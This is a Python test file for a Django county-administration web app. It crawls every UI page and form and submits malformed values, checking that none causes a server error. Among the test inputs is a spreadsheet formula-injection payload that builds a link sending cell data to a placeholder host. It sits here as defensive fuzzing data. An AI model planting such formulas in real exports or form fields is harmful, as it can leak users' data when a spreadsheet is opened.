"""Every page's filters and every form of the UI, sent bad values, answer without a server error.

The sweep crawls the site as a county administrator holding every role, over a small county (a household,
a project under way with its funds and benefits, a problem, a campaign, a complaint, a lecture request):
it starts at every URL pattern without parameters, follows the links of each page to reach one page of every
other pattern, and then
- sends each page's filters (the names of its GET forms and the usual filter names) with each bad value,
- submits each POST form it found (the page's own defaults, every typed field replaced by the bad value).
A new page or form is covered the day it is linked from another page.
"""

from html.parser import HTMLParser
from urllib.parse import urlencode, urljoin, urlsplit

import pytest
from django.urls import Resolver404, URLPattern, URLResolver, get_resolver, resolve

from fupin.core.enums import Role
from fupin.core.tests.test_api_scope import sima_objects, sima_projects  # noqa: F401 (fixtures)

BAD_VALUES = [
    "2026-02-30",  # the right shape, no such day
    "2026-13-01",
    "0000-01",
    "99999",
    "0",
    "-5",
    "abc",
    "1e5",
    "１２３４",  # full-width digits
    "9" * 30,  # beyond any database integer
    "长" * 300,  # beyond any text column
    "控制\x01字符",
    "空\x00字",
    '=HYPERLINK("http://x/?"&A1,"点击")',
    "not-a-phone<>",
]
# Filters are dates, months, years, numbers and search words: the values that can break those.
FILTER_VALUES = [
    "2026-02-30",
    "2026-13-01",
    "0000-01",
    "99999",
    "-5",
    "abc",
    "9" * 30,
    "长" * 300,
    "空\x00字",
]
FILTER_NAMES = [
    "year", "month", "date", "since", "until", "page", "q", "region", "state", "status", "cause", "town",
    "campaign", "tour", "rows", "type", "use", "category", "overdue", "below", "group", "code", "kind",
]  # fmt: skip
TYPED = {"text", "date", "number", "tel", "datetime-local", "month", "email", "search", "", None}
# Not pages: signing in and out, downloads that take no filters.
SKIP = {"login/", "logout/", "healthz"}


class Forms(HTMLParser):
    """The links and forms of a page: each form's method, action and fields with their default values."""

    def __init__(self):
        super().__init__()
        self.links, self.forms = [], []
        self._select = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "a" and attrs.get("href"):
            self.links.append(attrs["href"])
        elif tag == "form":
            method = (attrs.get("method") or "get").lower()
            self.forms.append({"method": method, "action": attrs.get("action"), "fields": {}, "typed": set()})
        elif not self.forms or not attrs.get("name"):
            return
        elif tag == "input":
            self._input(attrs)
        elif tag == "textarea":
            self.forms[-1]["fields"].setdefault(attrs["name"], "")
            self.forms[-1]["typed"].add(attrs["name"])
        elif tag == "select":
            self._select = attrs["name"]
        elif tag == "button" and attrs.get("value"):
            self.forms[-1]["fields"].setdefault(attrs["name"], attrs["value"])

    def _input(self, attrs):
        form, name, kind = self.forms[-1], attrs["name"], attrs.get("type")
        if kind in ("checkbox", "radio"):
            if "checked" in attrs or name not in form["fields"]:
                form["fields"][name] = attrs.get("value", "on")
        elif kind in ("submit", "file"):
            if kind == "submit" and attrs.get("value"):
                form["fields"].setdefault(name, attrs["value"])
        else:
            form["fields"].setdefault(name, attrs.get("value", ""))
            if kind in TYPED:
                form["typed"].add(name)

    def handle_endtag(self, tag):
        if tag == "select":
            self._select = None

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        pass

    def handle_starttag_option(self, attrs):
        pass

    def unknown_decl(self, data):
        pass


class _Options(Forms):
    """Adds <option> values: the selected one, else the first that is not empty."""

    def handle_starttag(self, tag, attrs):
        if tag == "option" and self._select and self.forms:
            attrs = dict(attrs)
            fields = self.forms[-1]["fields"]
            if "selected" in attrs or not fields.get(self._select):
                fields[self._select] = attrs.get("value", "")
            return
        super().handle_starttag(tag, attrs)


def _parse(html: str) -> _Options:
    parser = _Options()
    parser.feed(html)
    return parser


def _patterns(resolver=None, prefix=""):
    """Every UI route of the URLconf as its route text (the API and the admin have their own tests)."""
    for entry in (resolver or get_resolver()).url_patterns:
        route = prefix + str(entry.pattern)
        if route.startswith(("api/", "admin/")):
            continue
        if isinstance(entry, URLResolver):
            yield from _patterns(entry, route)
        elif isinstance(entry, URLPattern):
            yield route


def _route(path: str) -> str | None:
    try:
        match = resolve(path)
    except Resolver404:
        return None
    return match.route


@pytest.fixture
def sweeper(make_user, sima_projects):  # noqa: F811
    from fupin.core.models import Region
    from fupin.supervision import services as supervision

    user = make_user("sweeper", roles=list(Role))
    supervision.create_grid(user, name="金山路网格", region=Region.objects.get(code="370828107000"))
    return user


def _crawl(client):
    """One URL per route, found by following links from the routes without parameters."""
    queue = [f"/{route}" for route in _patterns() if "<" not in route and route not in SKIP]
    pages, forms = {}, []
    while queue:
        url = queue.pop(0)
        route = _route(urlsplit(url).path)
        if route is None or route in pages or route in SKIP:
            continue
        response = client.get(url)
        pages[route] = url
        assert response.status_code < 500, f"GET {url}: {response.status_code}"
        if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
            continue
        parsed = _parse(response.content.decode())
        for link in parsed.links:
            target = urljoin(url, link)
            if urlsplit(target).netloc in ("", "testserver") and not target.startswith("/static"):
                queue.append(urlsplit(target).path)
        for form in parsed.forms:
            form["page"] = url
            form["target"] = urlsplit(urljoin(url, form["action"] or url)).path
            forms.append(form)
    return pages, forms


def test_no_page_filter_and_no_form_answers_a_server_error_to_bad_values(client, sweeper):
    client.force_login(sweeper)
    client.raise_request_exception = False
    pages, forms = _crawl(client)
    failures = []

    for route, url in pages.items():
        names = set(FILTER_NAMES) | {
            n for f in forms if f["page"] == url and f["method"] == "get" for n in f["fields"]
        }
        for bad in FILTER_VALUES:
            response = client.get(url + "?" + urlencode(dict.fromkeys(sorted(names), bad)))
            if response.status_code >= 500:
                failures.append(f"GET {route} {bad[:20]!r}: {response.status_code}")

    posted = set()
    for form in forms:
        key = (_route(form["target"]), tuple(sorted(form["fields"])))
        if form["method"] != "post" or key in posted or key[0] in (None, *SKIP):
            continue
        posted.add(key)
        for bad in BAD_VALUES:
            data = {**form["fields"], **dict.fromkeys(form["typed"] - {"csrfmiddlewaretoken"}, bad)}
            response = client.post(form["target"], data)
            if response.status_code >= 500:
                failures.append(f"POST {key[0]} {bad[:20]!r}: {response.status_code}")

    reached = set(pages) | {route for route, _fields in posted}
    assert failures == []
    assert len(reached) >= 60, sorted(set(_patterns()) - reached)
